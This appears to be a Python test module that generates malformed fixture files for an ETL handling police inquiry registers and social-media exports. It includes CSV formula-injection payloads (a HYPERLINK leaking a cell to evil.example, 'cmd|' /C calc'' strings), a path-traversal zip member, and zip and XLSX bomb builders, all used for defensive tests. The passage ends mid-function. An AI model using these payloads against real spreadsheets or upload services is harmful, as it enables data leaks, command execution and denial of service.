"""The bad-file corpus: files the ETL must refuse, quarantine or repair, never crash on.

Small cases are committed under ``tests/fixtures/bad/`` and rewritten by
``.venv/bin/python -m tests.bad_corpus`` (``tests/test_bad_files.py``
checks that the committed files are what this module writes). Big ones
(a 10 MB field, a million columns, a file over the upload limit, zip
bombs) are written at test time into a temporary folder by
``write_big_case``.

Every file follows the vendor format of ``../shared/spec/export-formats.md``
(or the cell's own register template) and breaks it in one way that real
files break: Excel re-saves, truncated downloads, concatenated exports,
sentinel dates, formula payloads. The expected outcome of each file is
written out by hand in the tests, not here.
"""

from __future__ import annotations

import codecs
import csv
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

from etl.sources.inquiries import REGISTER_COLUMNS
from tests.etl_helpers import register_row

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "bad"
# The corpus' clock: "the future" is after this moment.
NOW = datetime(2025, 12, 1, tzinfo=UTC)
ZIP_TIME = (2025, 1, 1, 0, 0, 0)

# Text that must arrive in raw byte for byte: Urdu, Pashto (with a zero
# width non-joiner), emoji with a zero-width-joiner sequence, a skin tone
# and a flag, and a right-to-left mark inside the text.
URDU = "تھانے میں ایف آئی آر درج نہیں ہو رہی، مدد کریں"
PASHTO = "زما موټر\u200cسایکل غلا شوی دی، پولیسو ته مې خبر ورکړ"
EMOJI = "Thank you KP Police \U0001f46e\u200d\u2640\ufe0f\U0001f1f5\U0001f1f0 \u270a\U0001f3fd"
RTL_MIX = "شکایت نمبر \u200f۱۲۳۴\u200f درج ہو گیا"
URDU_NAME = "محمد علی خان"

# CSV formula payloads (OWASP "CSV injection"): stored as text, never run.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
PLUS_CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"

X_HEADER = (
    "Post id,Date,Post text,Link,Impressions,Likes,Engagements,Bookmarks,Share,New follows,"
    "Replies,Reposts,Profile visits,Detail expands,Url clicks,Hashtag clicks,Permalink clicks"
)
X_OVERVIEW_HEADER = (
    "Date,Impressions,Likes,Engagements,Bookmarks,Shares,New follows,Unfollows,Replies,"
    "Reposts,Profile visits,Create Post,Video views,Media views"
)
YOUTUBE_TABLE_HEADER = (
    "Content,Video title,Video publish time,Duration,Views,Watch time (hours),Subscribers,"
    "Impressions,Impressions click-through rate (%)"
)
META_FB_HEADER = (
    '"Post ID","Page ID","Page name",Title,Description,"Duration (sec)","Publish time",'
    '"Caption type",Permalink,"Is crosspost","Is share","Post type",Languages,"Custom labels",'
    '"Funded content status","Data comment",Date,Views,Reach,"Reactions, Comments and Shares",'
    'Reactions,Comments,Shares,"Total clicks","Link Clicks","Other Clicks",'
    '"Matched Audience Targeting Consumption (Photo Click)","Seconds viewed",'
    '"Average Seconds viewed","Estimated earnings (USD)","Ad impressions"'
)
META_IG_HEADER = (
    '"Post ID","Account ID","Account username","Account name",Description,"Duration (sec)",'
    '"Publish time",Permalink,"Post type","Data comment",Date,Views,Reach,Likes,Shares,'
    "Comments,Saves,Follows"
)
TIKTOK_CONTENT_HEADER = (
    "Video title,Video link,Post time,Video views,Likes,Comments,Shares,Add to Favorites"
)
TIKTOK_OVERVIEW_HEADER = (
    "Date,Video views,Reached audience,Profile views,Likes,Shares,Comments,"
    "Phone number clicks ,Leads submission,Net growth,New followers,Lost followers"
)
CITY311_HEADER = (
    "case_enquiry_id,open_dt,target_dt,closed_dt,ontime,case_status,closure_reason,case_title,"
    "subject,reason,type,queue,department,submittedphoto,closedphoto,location,fire_district,"
    "pwd_district,city_council_district,police_district,neighborhood,"
    "neighborhood_services_district,ward,precinct,location_street_name,location_zipcode,"
    "latitude,longitude,source"
)


# --- writers -------------------------------------------------------------


def csv_bytes(
    rows: list[list[str]], *, bom: bool = False, delimiter: str = ",", eol: str = "\n"
) -> bytes:
    """Rows as a CSV file the way a spreadsheet or a vendor writes one."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=eol).writerows(rows)
    return (codecs.BOM_UTF8 if bom else b"") + buffer.getvalue().encode("utf-8")


def register_cells(inquiry_id: str, received_at: str, **values: str) -> list[str]:
    """One register row (``tests.etl_helpers.register_row``) as cells in template order."""
    row = register_row(inquiry_id, received_at, **values)
    return [row[column] for column in REGISTER_COLUMNS]


def register_csv(rows: list[list[str]], **options) -> bytes:
    return csv_bytes([list(REGISTER_COLUMNS), *rows], bom=True, **options)


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    """A zip archive with fixed member times (the bytes never change)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def raw_zip(name: str, deflated: bytes, *, declared_size: int, crc: int) -> bytes:
    """A one-member zip written field by field, so its header can say
    anything: ``declared_size`` is what the headers claim the member unpacks to."""
    encoded = name.encode("utf-8")
    version, flags, method, when = 20, 0x800, 8, (0, (1 << 5) | 1 | ((2025 - 1980) << 9))
    local = struct.pack(
        "<4sHHHHHIIIHH",
        b"PK\x03\x04",
        version,
        flags,
        method,
        *when,
        crc,
        len(deflated),
        declared_size,
        len(encoded),
        0,
    )
    central = struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        version,
        version,
        flags,
        method,
        *when,
        crc,
        len(deflated),
        declared_size,
        len(encoded),
        0,
        0,
        0,
        0,
        0o100644 << 16,
        0,
    )
    body = local + encoded + deflated
    directory = central + encoded
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(body), 0)
    return body + directory + end


def encrypted_zip(members: list[tuple[str, bytes]]) -> bytes:
    """A zip whose members say they are password-protected (flag bit 0).

    Python cannot write encrypted zips; flipping the flag in both headers
    is what a reader sees of one: it asks for a password."""
    data = bytearray(zip_bytes(members))
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := data.find(signature, start)) >= 0:
            (flags,) = struct.unpack_from("<H", data, found + flag_offset)
            struct.pack_into("<H", data, found + flag_offset, flags | 0x1)
            start = found + 4
    return bytes(data)


XLSX_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XLSX_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
XLSX_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _column_letter(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def xlsx_bytes(rows: list[list[object]], *, sheet_xml: str | None = None) -> bytes:
    """A minimal SpreadsheetML workbook (what Excel and openpyxl read).

    A cell is text (an inline string), ``None`` (no cell),
    ``("formula", formula, cached_value)``: a formula cell whose last
    computed value Excel stored beside it, or ``("number", text)``: a
    number as Excel writes it (``1.8889597096146801E+18``).
    """
    if sheet_xml is None:
        lines = []
        for number, row in enumerate(rows, start=1):
            cells = []
            for index, value in enumerate(row):
                ref = f"{_column_letter(index)}{number}"
                if value is None:
                    continue
                if isinstance(value, tuple) and value[0] == "number":
                    cells.append(f'<c r="{ref}"><v>{value[1]}</v></c>')
                elif isinstance(value, tuple):
                    _, formula, cached = value
                    cells.append(
                        f'<c r="{ref}" t="str"><f>{_xml_text(formula)}</f>'
                        f"<v>{_xml_text(cached)}</v></c>"
                    )
                else:
                    cells.append(
                        f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">'
                        f"{_xml_text(str(value))}</t></is></c>"
                    )
            lines.append(f'<row r="{number}">{"".join(cells)}</row>')
        sheet_xml = (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<worksheet xmlns="{XLSX_MAIN}"><sheetData>{"".join(lines)}</sheetData></worksheet>'
        )
    parts = [
        (
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        ),
        (
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{XLSX_RELS}"><Relationship Id="rId1" '
            f'Type="{XLSX_DOC}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        ),
        (
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<workbook xmlns="{XLSX_MAIN}" xmlns:r="{XLSX_DOC}"><sheets>'
            f'<sheet name="Register" sheetId="1" r:id="rId1"/></sheets></workbook>',
        ),
        (
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{XLSX_RELS}"><Relationship Id="rId1" '
            f'Type="{XLSX_DOC}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        ),
        ("xl/worksheets/sheet1.xml", sheet_xml),
    ]
    return zip_bytes([(name, text.encode("utf-8")) for name, text in parts])


def utf16_insights(title: str, rows: list[tuple[str, str]]) -> bytes:
    """A Meta Insights per-metric daily file: UTF-16LE, ``sep=,``, a title line."""
    lines = ["sep=,", f'"{title}"', '"Date","Primary"']
    lines += [f'"{day}","{value}"' for day, value in rows]
    return codecs.BOM_UTF16_LE + ("\n".join(lines) + "\n\n").encode("utf-16-le")


# --- the rows the cases are made of ---------------------------------------


def _x_row(post_id: str, day: str, text: str, impressions: str = "104", likes: str = "7") -> str:
    link = f"https://x.com/KPPoliceOfficial/status/{post_id}"
    cells = [post_id, day, text, link, impressions, likes, "13", "0", "0", "0", "0", "1"]
    cells += ["0", "4", "1", "0", "0"]
    return csv_bytes([cells]).decode("utf-8")


def _meta_fb_row(post_id: str, published: str, reach: str = "812", views: str = "1456") -> str:
    cells = [
        post_id,
        "100064789012345",
        "KP Police",
        "",
        "Khidmat Markaz open on Saturday, 9am to 5pm.",
        "",
        published,
        "",
        f"https://www.facebook.com/100064789012345/posts/{post_id}",
        "0",
        "0",
        "Photos",
        "",
        "",
        "",
        "",
        "Lifetime",
        views,
        reach,
        "53",
        "41",
        "7",
        "5",
        "22",
        "3",
        "19",
        "",
        "",
        "",
        "",
        "",
    ]
    return csv_bytes([cells]).decode("utf-8")


def _youtube_rows(views: tuple[str, str] = ("1200", "310")) -> list[list[str]]:
    total = str(sum(int(v) for v in views))
    return [
        ["Total", "", "", "", total, "30.5", "12", "9000", "2.1"],
        ["UWQNrpakgcA", "Helpline 15 explained", "Aug 28, 2025", "59", views[0], "20.1"]
        + ["9", "6000", "2.4"],
        ["-bX3_k9LmQw", "Road safety week", "Aug 30, 2025", "45", views[1], "10.4"]
        + ["3", "3000", "1.5"],
    ]


def _city311_row(case_id: str, opened: str, closed: str, status: str = "Closed") -> list[str]:
    cells = [case_id, opened, "2022-02-04 13:47:31", closed, "ONTIME", status, " "]
    cells += ["Street Light Outages", "Public Works Department", "Street Lights"]
    cells += ["Street Light Outages", "PWDx_Street Light Outages", "PWDx", " ", " "]
    cells += ["INTERSECTION of Main St & 1st Ave", "3", "1C", "1", "A1", "Downtown", "3"]
    cells += ["Ward 3", "0306", "Main St", "02108", "42.3594", "-71.0587", "Constituent Call"]
    return cells


# --- the small cases (committed) -------------------------------------------


def _register_cases() -> dict[str, bytes]:
    header = list(REGISTER_COLUMNS)
    good = register_cells("SEMI-1", "2025-03-04 10:00")
    wrapped_lines = [
        csv_bytes([[csv_bytes([cells]).decode().rstrip("\n")]]).decode()
        for cells in (header, register_cells("WRAP-1", "2025-03-04 10:00"))
    ]
    wrapped_lines.append(
        csv_bytes(
            [
                [
                    csv_bytes(
                        [register_cells("WRAP-2", "2025-03-04 11:00", summary='He said "help"')]
                    )
                    .decode()
                    .rstrip("\n")
                ]
            ]
        ).decode()
    )
    partly_wrapped = csv_bytes([header, register_cells("PW-1", "2025-03-04 10:00")]).decode()
    partly_wrapped += wrapped_lines[1]
    copy = register_csv([register_cells("COPY-1", "2025-03-05 09:00")])
    extra_field = csv_bytes(
        [header, register_cells("XF-1", "2025-03-04 10:00")]
        + [register_cells("XF-2", "2025-03-04 11:00") + ["surplus"]]
        + [register_cells("XF-3", "2025-03-04 12:00")]
    )
    unclosed = csv_bytes([header, register_cells("UQ-1", "2025-03-04 10:00")]).decode()
    unclosed += 'UQ-2,2025-03-04 11:00,Facebook,inquiry,Peshawar,male,Urdu,"My bike was taken\n'
    unclosed += csv_bytes([register_cells("UQ-3", "2025-03-04 12:00")]).decode()
    concatenated = csv_bytes(
        [header, register_cells("CAT-1", "2025-03-04 10:00")]
        + [header, register_cells("CAT-2", "2025-03-11 10:00")]
    )
    return {
        "register_empty.csv": b"",
        "register_header_only.csv": register_csv([]),
        "register_blank_lines_only.csv": b"\r\n\r\n   \r\n\r\n",
        "register_binary_garbage.csv": _garbage(),
        "register_pdf_renamed.xlsx": _pdf(),
        "register_truncated.xlsx": _register_xlsx()[:700],
        "register_old_excel_or_password.xlsx": _ole(),
        "register_mixed_encodings.csv": _mixed_encodings(),
        "register_semicolons_no_sep_line.csv": csv_bytes(
            [header, good, register_cells("SEMI-2", "2025-03-04 11:00", summary="Lost CNIC, help")],
            delimiter=";",
            eol="\r\n",
        ),
        "register_rows_in_one_field.csv": "".join(wrapped_lines).encode("utf-8"),
        "register_one_row_in_one_field.csv": partly_wrapped.encode("utf-8"),
        "register_dates_day_first.csv": register_csv(
            [register_cells(f"DMY-{i}", f"{10 + i:02d}-03-2025 10:00") for i in range(1, 7)]
        ),
        "register_ids_turned_into_dates.csv": register_csv(
            [register_cells(f"{i}-Mar", "2025-03-04 10:00") for i in range(1, 4)]
        ),
        "register_duplicate_ids.csv": register_csv(
            [
                register_cells("DUP-1", "2025-03-04 10:00"),
                register_cells("DUP-1", "2025-03-04 10:30", summary="second copy"),
                register_cells("DUP-2", "2025-03-04 11:00"),
            ]
        ),
        "register_same_id_week1.csv": register_csv(
            [register_cells("ACROSS-1", "2025-03-04 10:00", status="open")]
        ),
        "register_same_id_week2.csv": register_csv(
            [
                register_cells(
                    "ACROSS-1",
                    "2025-03-04 10:00",
                    status="resolved",
                    first_response_at="2025-03-04 10:20",
                    resolved_at="2025-03-05 09:00",
                )
            ]
        ),
        "register_copy_a.csv": copy,
        "register_copy_b.csv": copy,
        "register_received_in_future.csv": register_csv(
            [register_cells("FUT-1", "2026-01-15 10:00")]
        ),
        "register_received_1900.csv": register_csv([register_cells("Y1900-1", "1900-01-01 00:00")]),
        "register_received_3019.csv": register_csv([register_cells("Y3019-1", "3019-03-04 10:00")]),
        "register_reply_before_receipt.csv": register_csv(
            [register_cells("BR-1", "2025-03-04 10:00", first_response_at="2025-03-04 09:15")]
        ),
        "register_districts.csv": register_csv(
            [
                register_cells("DIST-1", "2025-03-04 10:00", district="Gilgit"),
                register_cells("DIST-2", "2025-03-04 10:00", district="Dir"),
                register_cells("DIST-3", "2025-03-04 10:00", district="DI Khan"),
            ]
        ),
        "register_formula_payloads.csv": register_csv(
            [
                register_cells(
                    "FORM-1",
                    "2025-03-04 10:00",
                    summary=HYPERLINK,
                    requester_name=PLUS_CMD,
                    referred_to=AT_SUM,
                ),
                register_cells("FORM-2", "2025-03-04 10:05", summary=MINUS, requester_name="=1+1"),
                register_cells("FORM-3", "2025-03-04 10:10", channel='=HYPERLINK("x","Facebook")'),
            ]
        ),
        "register_urdu_pashto_emoji.csv": register_csv(
            [
                register_cells("TXT-1", "2025-03-04 10:00", summary=URDU, requester_name=URDU_NAME),
                register_cells("TXT-2", "2025-03-04 10:05", summary=PASHTO, language="Pashto"),
                register_cells("TXT-3", "2025-03-04 10:10", summary=EMOJI),
                register_cells("TXT-4", "2025-03-04 10:15", summary=RTL_MIX),
            ]
        ),
        "register_missing_received_at.csv": csv_bytes(
            [
                [c for c in header if c != "received_at"],
                [v for c, v in zip(header, good, strict=True) if c != "received_at"],
            ]
        ),
        "register_row_with_extra_field.csv": extra_field,
        "register_unclosed_quote.csv": unclosed.encode("utf-8"),
        "register_two_exports_joined.csv": concatenated,
        # A blank line Excel left between rows: BL-2 is spreadsheet row 4.
        "register_blank_line_between_rows.csv": csv_bytes(
            [header, register_cells("BL-1", "2025-03-04 10:00")]
        )
        + b"\n"
        + csv_bytes([register_cells("BL-2", "2025-03-04 11:00", channel="Facebok")]),
        "register_formula.xlsx": _register_xlsx(),
        "register_header_only.xlsx": xlsx_bytes([header]),
        "register_single_column.xlsx": xlsx_bytes([["Inquiry register"], ["K-1"], ["K-2"]]),
        "register_empty_sheet.xlsx": xlsx_bytes([]),
        # Ids typed as numbers: Excel keeps 15 digits of 1888959709614682283.
        "register_ids_as_numbers.xlsx": xlsx_bytes(
            [
                list(REGISTER_COLUMNS),
                [("number", "1.8889597096146801E+18"), *register_cells("", "2025-03-04 10:00")[1:]],
            ]
        ),
    }


def _garbage() -> bytes:
    """A PNG signature then bytes of every value (NUL included)."""
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8


def _pdf() -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n"
        b"%%EOF\n"
    )


def _ole() -> bytes:
    """The header of an OLE2 compound file: an old .xls, or any password-protected workbook."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff" + bytes(486)


def _mixed_encodings() -> bytes:
    """UTF-8 rows, then a row pasted from an old cp1252 file ("Café" twice)."""
    head = csv_bytes(
        [list(REGISTER_COLUMNS), register_cells("MIX-1", "2025-03-04 10:00", summary="Café")]
    )
    tail = csv_bytes([register_cells("MIX-2", "2025-03-04 11:00", summary="Caf\xe9")])
    return head + tail.decode("utf-8").encode("cp1252")


def _register_xlsx() -> bytes:
    header: list[object] = list(REGISTER_COLUMNS)
    first: list[object] = list(register_cells("XL-1", "2025-03-04 10:00"))
    first[REGISTER_COLUMNS.index("summary")] = (
        "formula",
        'HYPERLINK("http://evil.example/","Click me")',
        "Click me",
    )
    second: list[object] = list(
        register_cells("XL-2", "2025-03-04 11:00", summary=PLUS_CMD, requester_name=AT_SUM)
    )
    third: list[object] = list(register_cells("XL-3", "2025-03-04 12:00", summary=URDU))
    return xlsx_bytes([header, first, second, third])


def _events_cases() -> dict[str, bytes]:
    header = ["inquiry_id", "event", "at", "actor"]
    return {
        "events_bad_rows.csv": csv_bytes(
            [
                header,
                ["EVT-1", "received", "2025-03-04 10:00", "cell"],
                ["EVT-1", "called back", "2025-03-04 10:30", "cell"],
                ["EVT-2", "first_response", "3019-03-04 10:00", "cell"],
                ["EVT-3", "resolved", "1900-01-01 00:00", "cell"],
                ["", "referred", "2025-03-04 12:00", "cell"],
            ]
        ),
        "events_header_only.csv": csv_bytes([header], eol="\r\n"),
    }


def _city311_cases() -> dict[str, bytes]:
    header = CITY311_HEADER.split(",")
    return {
        "city311_sentinels_and_typos.csv": csv_bytes(
            [
                header,
                _city311_row("101004110001", "2022-01-21 13:47:00", "1900-01-01 00:00:00"),
                _city311_row("101004110002", "3019-01-21 13:47:00", "", status="Open"),
                _city311_row("101004110003", "2022-01-21 13:47:00", "2022-01-20 09:00:00"),
                _city311_row("101004110004", "2022-01-21 13:47:00", " ", status="Open"),
            ]
        ),
        "city311_mapped_column_missing.csv": csv_bytes(
            [header[:-1], _city311_row("101004110005", "2022-01-21 13:47:00", " ")[:-1]]
        ),
    }


def _x_cases() -> dict[str, bytes]:
    overview = X_OVERVIEW_HEADER.split(",")
    youtube = csv_bytes([YOUTUBE_TABLE_HEADER.split(","), *_youtube_rows()]).decode()
    return {
        "x_content_negative_counts.csv": (
            X_HEADER
            + "\n"
            + _x_row("1888959709614682283", "Mon Feb 10 2025", "Helpline 15", impressions="-5")
            + _x_row("1888596657253810355", "Sun Feb 09 2025", "Khidmat Markaz")
        ).encode(),
        "x_content_duplicate_posts.csv": (
            X_HEADER
            + "\n"
            + _x_row("1888959709614682284", "Mon Feb 10 2025", "first copy")
            + _x_row("1888959709614682284", "Mon Feb 10 2025", "second copy", impressions="120")
            + _x_row("1888596657253810356", "Sun Feb 09 2025", "other post")
        ).encode(),
        "x_content_ids_rounded_by_excel.csv": (
            X_HEADER
            + "\n"
            + _x_row("1.88896E+18", "Mon Feb 10 2025", "Helpline 15")
            + _x_row("1888596657253810357", "Sun Feb 09 2025", "Khidmat Markaz")
        ).encode(),
        "x_content_text_kept.csv": (
            X_HEADER
            + "\n"
            + _x_row("1888959709614682285", "Mon Feb 10 2025", URDU + " " + EMOJI)
            + _x_row("1888959709614682286", "Mon Feb 10 2025", PASHTO)
            + _x_row("1888959709614682287", "Mon Feb 10 2025", HYPERLINK)
        ).encode(),
        "x_content_year_3019.csv": (
            X_HEADER
            + "\n"
            + _x_row("1888959709614682288", "Mon Feb 10 3019", "typo year")
            + _x_row("1888959709614682289", "Mon Feb 10 2025", "fine")
        ).encode(),
        "x_overview_numbers_turned_into_dates.csv": csv_bytes(
            [
                overview,
                ["Mon Feb 10 2025", "16-Jan", "7", "13", "0", "0", "2", "0", "1", "1", "4"]
                + ["0", "0", "0"],
                ["Sun Feb 09 2025", "1200", "9", "20", "1", "0", "1", "1", "0", "2", "3"]
                + ["0", "0", "0"],
            ]
        ),
        "x_overview_year_3019.csv": csv_bytes(
            [
                overview,
                ["Mon Feb 10 3019", "1100", "7", "13", "0", "0", "2", "0", "1", "1", "4"]
                + ["0", "0", "0"],
                ["Sun Feb 09 2025", "1200", "9", "20", "1", "0", "1", "1", "0", "2", "3"]
                + ["0", "0", "0"],
            ]
        ),
        "x_content_with_youtube_rows_appended.csv": (
            X_HEADER
            + "\n"
            + _x_row("1888959709614682290", "Mon Feb 10 2025", "an X post")
            + youtube
        ).encode(),
    }


def _youtube_cases() -> dict[str, bytes]:
    table = csv_bytes([YOUTUBE_TABLE_HEADER.split(","), *_youtube_rows()])
    negative = csv_bytes([YOUTUBE_TABLE_HEADER.split(","), *_youtube_rows(("1200", "-310"))])
    decimal_comma = csv_bytes(
        [
            YOUTUBE_TABLE_HEADER.split(","),
            *[[c.replace(".", ",") for c in row] for row in _youtube_rows()],
        ],
        delimiter=";",
        eol="\r\n",
    )
    many = [(f"Table data {i:02d}.csv", table) for i in range(51)]
    return {
        "youtube_totals_ambiguous_dates.csv": b"Date,Views\r\n01-02-2025,10\r\n",
        "youtube_totals_day_first.csv": b"Date,Views\r\n12-08-2025,41\r\n13-08-2025,52\r\n",
        "youtube_table_total_row_only.csv": csv_bytes(
            [YOUTUBE_TABLE_HEADER.split(","), _youtube_rows()[0]]
        ),
        "youtube_table_negative_views.csv": negative,
        "youtube_table_semicolons_decimal_commas.csv": decimal_comma,
        "youtube_path_traversal.zip": zip_bytes(
            [("Table data.csv", table), ("../../home/media/Table data.csv", table)]
        ),
        "youtube_encrypted.zip": encrypted_zip([("Table data.csv", table)]),
        "youtube_too_many_members.zip": zip_bytes(many),
        "youtube_nothing_readable.zip": zip_bytes([("report.pdf", _pdf())]),
        "youtube_same_name_in_two_folders.zip": zip_bytes(
            [
                ("2025-08/Totals.csv", b"Date,Views\n2025-08-01,10\n2025-08-02,12\n"),
                ("2025-09/Totals.csv", b"Date,Views\n2025-09-01,20\n2025-09-02,22\n"),
            ]
        ),
    }


def _meta_cases() -> dict[str, bytes]:
    x_rows = X_HEADER + "\n" + _x_row("1888959709614682291", "Mon Feb 10 2025", "X post")
    return {
        "meta_fb_negative_reach.csv": codecs.BOM_UTF8
        + (
            META_FB_HEADER
            + "\n"
            + _meta_fb_row("1052345678901234_122118000000000001", "02/10/2025 18:00", "-12")
            + _meta_fb_row("1052345678901234_122118000000000002", "02/11/2025 18:00")
        ).encode(),
        "meta_fb_duplicate_posts.csv": codecs.BOM_UTF8
        + (
            META_FB_HEADER
            + "\n"
            + _meta_fb_row("1052345678901234_122118000000000003", "02/10/2025 18:00")
            + _meta_fb_row("1052345678901234_122118000000000003", "02/10/2025 18:00", "900")
        ).encode(),
        "meta_fb_with_x_rows_appended.csv": codecs.BOM_UTF8
        + (
            META_FB_HEADER
            + "\n"
            + _meta_fb_row("1052345678901234_122118000000000004", "02/10/2025 18:00")
            + x_rows
        ).encode(),
        "meta_insights_truncated_utf16.csv": utf16_insights(
            "Facebook reach", [("2025-01-01T01:00:00", "16"), ("2025-01-02T00:00:00", "43")]
        )[:-9],
        "meta_insights_year_3019.csv": utf16_insights(
            "Facebook reach", [("2025-01-01T01:00:00", "16"), ("3019-01-02T00:00:00", "43")]
        ),
        "meta_ig_header_only.csv": codecs.BOM_UTF8 + (META_IG_HEADER + "\n").encode(),
    }


def _tiktok_cases() -> dict[str, bytes]:
    return {
        "tiktok_content_negative_likes.csv": csv_bytes(
            [
                TIKTOK_CONTENT_HEADER.split(","),
                ["Helpline 15", "https://www.tiktok.com/@kppolice/video/7432101234567890123"]
                + ["2025/10/31 18:19:10", "5400", "-3", "12", "9", "4"],
                ["Road safety", "https://www.tiktok.com/@kppolice/video/7432101234567890124"]
                + ["2025/10/30 11:02:45", "3100", "210", "8", "5", "2"],
            ]
        ),
        "tiktok_overview_year_3019.csv": csv_bytes(
            [
                TIKTOK_OVERVIEW_HEADER.split(","),
                ["3019/10/31", "5400", "3000", "120", "300", "12", "9", "0", "0", "4", "5", "1"],
                ["2025/10/30", "5100", "2900", "110", "280", "10", "7", "0", "0", "3", "4", "1"],
            ]
        ),
        "tiktok_overview_header_only.csv": (TIKTOK_OVERVIEW_HEADER + "\n").encode(),
    }


def small_cases() -> dict[str, bytes]:
    """File name -> bytes of every committed case."""
    cases: dict[str, bytes] = {}
    for group in (
        _register_cases,
        _events_cases,
        _city311_cases,
        _x_cases,
        _youtube_cases,
        _meta_cases,
        _tiktok_cases,
    ):
        cases.update(group())
    return cases


def write_small_cases(folder: Path = FIXTURES) -> list[Path]:
    """(Re)write the committed corpus; returns the files written."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in small_cases().items():
        path = folder / name
        path.write_bytes(data)
        written.append(path)
    return written


# --- the big cases (written at test time) -----------------------------------

TEN_MB = 10 * 1024 * 1024
MILLION = 1_000_000
# A zip bomb: 2 GiB of zeros in about 2 MB. Deflate of a run of zeros is the
# same block over and over, so the stream is built from one compressed
# 16 MiB chunk (full flush) repeated, not by compressing 2 GiB.
BOMB_CHUNK = 1 << 24
BOMB_CHUNKS = 128
# zlib.crc32 of 2 GiB of zero bytes (computed once: 1.3 s, not worth redoing).
BOMB_CRC = 0x4DBDF21C


def _ten_mb_field(path: Path) -> None:
    rows = [
        register_cells("BIG-1", "2025-03-04 10:00"),
        register_cells("BIG-2", "2025-03-04 11:00", summary="A" * TEN_MB),
    ]
    path.write_bytes(register_csv(rows))


def _million_columns(path: Path) -> None:
    header = ",".join(["inquiry_id", "received_at", "channel", "category"])
    header += "," + ",".join(f"c{i}" for i in range(4, MILLION))
    path.write_text(header + "\nK-1,2025-03-04 10:00,Facebook,inquiry\n", encoding="utf-8")


def _over_size_limit(path: Path) -> None:
    from core.config import MAX_FILE_BYTES

    with path.open("wb") as handle:
        handle.write(register_csv([register_cells("HUGE-1", "2025-03-04 10:00")]))
        handle.truncate(MAX_FILE_BYTES + 1)  # sparse: no disk is used for the rest


def _zip_bomb(path: Path) -> None:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(BOMB_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(bytes(BOMB_CHUNK)) + compressor.flush()
    stream = block * (BOMB_CHUNKS - 1) + last
    path.write_bytes(
        raw_zip("Totals.csv", stream, declared_size=BOMB_CHUNK * BOMB_CHUNKS, crc=BOMB_CRC)
    )


def _lying_zip(path: Path) -> None:
    """Headers declare 1 KB; the member really unpacks to 8 MiB."""
    data = b"Date,Views\n" + bytes(8 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = compressor.compress(data) + compressor.flush()
    path.write_bytes(raw_zip("Totals.csv", stream, declared_size=1024, crc=zlib.crc32(data)))


def _xlsx_bomb(path: Path) -> None:
    """A workbook whose sheet unpacks to 2 GiB (declared and real)."""
    workbook = zipfile.ZipFile(io.BytesIO(_register_xlsx()))
    members = [(i.filename, workbook.read(i)) for i in workbook.infolist()]
    small = zip_bytes([m for m in members if m[0] != "xl/worksheets/sheet1.xml"])
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(BOMB_CHUNK)) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(bytes(BOMB_CHUNK)) + compressor.flush()
    sheet = raw_zip(
        "xl/worksheets/sheet1.xml",
        block * (BOMB_CHUNKS - 1) + last,
        declared_size=BOMB_CHUNK * BOMB_CHUNKS,
        crc=BOMB_CRC,
    )
    path.write_bytes(_merge_zips(small, sheet))


def _merge_zips(first: bytes, second: bytes) -> bytes:
